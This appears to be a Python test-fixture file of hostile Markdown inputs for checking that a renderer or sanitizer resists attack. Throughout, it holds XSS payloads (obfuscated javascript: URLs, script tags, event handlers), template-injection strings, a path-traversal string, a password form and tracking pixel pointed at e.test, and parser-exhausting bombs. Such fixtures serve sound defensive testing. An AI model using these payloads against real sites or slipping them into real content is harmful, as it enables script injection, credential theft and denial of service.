"""Markdown that tries to run, to load, to hide, to break out, or to take for ever."""

_SCHEMES = (
    *(
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "java\tscript:alert(1)",
        "\x01javascript:a",
    ),
    *(
        "vbscript:msgbox(1)",
        "data:text/html,<script>alert(1)</script>",
        "data:image/svg+xml;base64,PHN2Zz4=",
        "file:///etc",
    ),
    *("&#106;avascript:alert(1)", "&#x6A;avascript&colon;alert(1)", "javascript&#58;alert(1)", "%6aavascript:alert(1)"),
    *(
        "java\u200bscript:alert(1)",
        "java\nscript:alert(1)",
        "blob:https://e.test/1",
        "//evil.test/x",
        "/api/auth/logout/",
    ),
    *(
        "\\javascript:alert(1)",
        "?a=b",
        "#content",
        "feed:javascript:alert(1)",
        "view-source:x",
        "intent://x",
        "ws://e.test",
    ),
)
_LANGUAGES = (
    *('python"><script>alert(1)</script>', "python onload=alert(1)", "'onmouseover='alert(1)", "../../etc/passwd"),
    *("html{background:url(//e.test)}", "\u202epy", "a" * 5000, "c-k x", "__proto__", "python\u0000", "sql;drop"),
)
DOCUMENTS: dict[str, str] = {
    "scripts": "<script>alert(1)</script>\n\n<ScRiPt src=//e.test/x.js></sCrIpT>\n\na <script>b</script> c",
    "schemes in links": "\n\n".join(
        f"[a]({scheme}) [b](<{scheme}>) <{scheme}> [c][{n}]" for n, scheme in enumerate(_SCHEMES)
    )
    + "\n\n"
    + "\n".join(f"[{n}]: {scheme} 'title'" for n, scheme in enumerate(_SCHEMES)),
    "schemes in images": "\n\n".join(f"![a]({scheme}) [![b]({scheme})]({scheme})" for scheme in _SCHEMES),
    "remote images": "![x](http://e.test/pixel.gif?secret) ![](https://e.test/a 'onload=x')\n\n<img src=x onerror=a>",
    "svg": '<svg onload=alert(1)><animate onbegin=alert(1) attributeName></svg>\n\n<math href="javascript:x">a</math>',
    "frames": "<iframe srcdoc='<script>x</script>'></iframe>\n<object data=x></object><embed src=x><portal src=x>",
    "attributes": "<p style='position:fixed' onclick=alert(1)>a</p>\n\n<a href=x onmouseover=x>b</a>\n# c {onclick=x}",
    "forms": "<form action=//e.test><input name=password autofocus onfocus=x><button>go</button></form>",
    "base and refresh": "<base href=//e.test>\n\n<meta http-equiv=refresh content='0;url=//e.test'><link href=//a>",
    "styles": "<style>@import '//e.test';</style>\n\n<div class='c-k plain skip button' id=content>x</div>",
    "clobbering": "<a id=content name=body>x</a> <img name=cookie>\n\n[a]: https://e.test 'id=\"b\"'\n\n[a] # h {#b}",
    "comments": "<!-- a --> <!--> <!---> --> <![CDATA[<script>x</script>]]> <?php x ?> <!DOCTYPE a> </article></main>",
    "templates": "{{ 7*7 }} {% include 'base.html' %} ${7*7} #{7*7} <%= 7 %> [[x]] {{ messages.__class__ }}",
    "nested brackets": "[" * 10_000 + "a" + "](b)" * 10_000,
    "nested images": "![" * 30_000,
    "nested quotes": ">" * 10_000 + " a\n\n" + "> " * 10_000 + "b",
    "nested lists": "- " * 10_000 + "a\n\n" + "\n".join("  " * level + "- a" for level in range(300)),
    "nested emphasis": "**" * 20_000 + "a" + "**" * 20_000 + "\n\n" + "*a **a " * 5_000 + "a** a* " * 5_000,
    "delimiters": "_" * 30_000 + "\n\n" + "a**" * 10_000 + "\n\n" + "".join("`" * n + " " for n in range(1, 250)),
    "reading order": "a \u202egpj.exe\u202c b \u2066\u2067c\u2069 `\u202ecode\u202c`\n\n[\u202elink](https://e.test/\u202e)",
    "zero width": "a\u200b\u200c\u200d\u2060\ufeffb [x](java\u200bscript:a) \U000e0041\U000e0042 \u00ad",
    "no characters": "a\x00b\x01c\x08d\x7fe\x85f\ud800g\udfffh\ufffei [x](https://e.test/\x00)\r\ra\r\nb\x0cc",
    "one megabyte": "word " * 200_000,
    "table bomb": "|a" * 2000 + "\n" + "|-" * 2000 + "\n" + "|\n" * 20_000,
    "many table bombs": ("|a" * 100 + "\n" + "|-" * 100 + "\n" + "|\n" * 600 + "\n") * 50,
    "reference bomb": "[x]: https://e.test/" + "a" * 1900 + "\n\n" + "[x] " * 20_000,
    "definitions": "".join(f"[{n}]: https://e.test/{n}\n" for n in range(4000)) + "\n[1] [2] [3]: https://e.test",
    "autolinks": "<https://a.test/>" * 2000 + "<javascript:a>" * 50 + "<" * 20_000 + "<a@b.test>" * 100,
    "entities": "&lt;script&gt; &#60;script&#62; &#0; &#xD800; &#x110000; &NewLine; &colon; " + "&a" * 20_000,
    "mathematics": "$$\\href{javascript:alert(1)}{x}$$ \\(\\unicode{x}\\) $<script>$ \\require{html}",
    "emoji": "👩‍👩‍👧‍👦 🏴‍☠️ 🇩🇪 :smile: ❤️ ☝🏿 [🔥](https://e.test/🔥) a͉͔̘͙̣" + "\u0300" * 5000,
    "footnotes": "a[^1] b[^x]\n\n[^1]: javascript:alert(1)\n[^x]: https://e.test/note",
    "fences": "\n\n".join(f"```{language}\nx = '<script>' # y\n```" for language in _LANGUAGES)
    + "\n\n```js\nnever closed <b>",
    "slow lexers": "\n\n".join(
        f"```{language}\n{hostile * (7000 // len(hostile))}\n```"
        for language, hostile in (
            *(("csharp", "a\n"), ("cpp", "\n\n"), ("java", "\n"), ("make", "("), ("r", "<!"), ("perl", '\\"')),
            *(("python", "\n "), ("javascript", "/"), ("css", "a{"), ("html", "<!"), ("yaml", "- "), ("ruby", "%w")),
        )
    ),
    "a large block": "```python\n" + "x = [1, 2, 3]  # note\n" * 3000 + "```",
    "addresses": "[a](https://user:pass@e.test) [b](https://e.test/'><script>) [c](https://e.test/\"onclick=x) [d](https://)"
    " [e](http://[::1]/) [f](https://e.test/%00) [g](mailto:a@b.test?body=x) [h](https://xn--e1afmkfd.test) <https://e.test/`x>",
}
